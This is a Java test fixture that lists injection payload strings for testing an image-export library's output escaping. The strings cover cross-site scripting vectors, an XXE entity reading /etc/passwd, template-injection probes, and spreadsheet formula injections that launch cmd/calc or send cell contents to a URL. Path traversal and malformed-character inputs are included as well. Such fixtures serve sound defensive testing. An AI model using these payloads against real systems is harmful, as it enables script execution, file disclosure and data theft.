// SPDX-License-Identifier: EPL-2.0
package org.relationalimages.export.tests;

import java.util.List;

/** Texts that attempt injections. */
final class Payloads {

	/** For markup, styles, scripts and addresses. */
	static final List<String> ALL = List.of(
			"<script>alert(1)</script>",
			"\"><img src=x onerror=alert(1)>",
			"' onmouseover='alert(1)' x='",
			"javascript:alert(1)",
			"</title></style></script></svg></main><iframe src=//example.org></iframe>",
			"]]><svg/onload=alert(1)><![CDATA[ <?php x ?> --> <!-- -->",
			"&lt;b&gt; &amp;amp; &nbsp; &#60;script&#62; &#x3c; &xxe; %3Cscript%3E",
			"<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
			"{{7*7}} ${7*7} <%= 7*7 %> `x` \\\" \\u003c \\",
			"=HYPERLINK(\"http://example.org?\"&A1;\"x\")",
			"+1+1|cmd' /C calc'!A0;=1+1,\"=2+2\"",
			"-2+3\t=1+1\n=2+2\r\n+3\r@SUM(A1)\n- of a list",
			"@SUM(1+9)*cmd|' /C calc'!A0",
			"\t=1+1", "\r=1+1", "\n=1+1", "  \u00A0\u200B\uFEFF=1+1", "'=1+1", "''+1", "'plain", "\uFF1D1+1", "\uFF20x", ";=1+1",
			"\"", "\"\"", ",", "a,b\"c\"\r\nd;e", " blank around ", "0012", "1E5", "true",
			"line\nfeed\rreturn\r\nboth\ttab\u0085next\u2028line\u2029paragraph",
			"nul\u0000 bell\u0007 escape\u001b[31m vertical\u000b form\f \uFFFE \uFFFF delete\u007f",
			"\u202Eright to left\u202C \u2066isolate \u061c \u200F",
			"lone \uD800 high and \uDC00 low \uDBFF", "\uD83D\uDE00 \uD834\uDD1E \u0301\u0301 \u5F20",
			"../../../../etc/passwd", "C:\\nul\\con.txt", "..", "file:///etc/passwd#<>?*|");

	private Payloads() {
	}
}
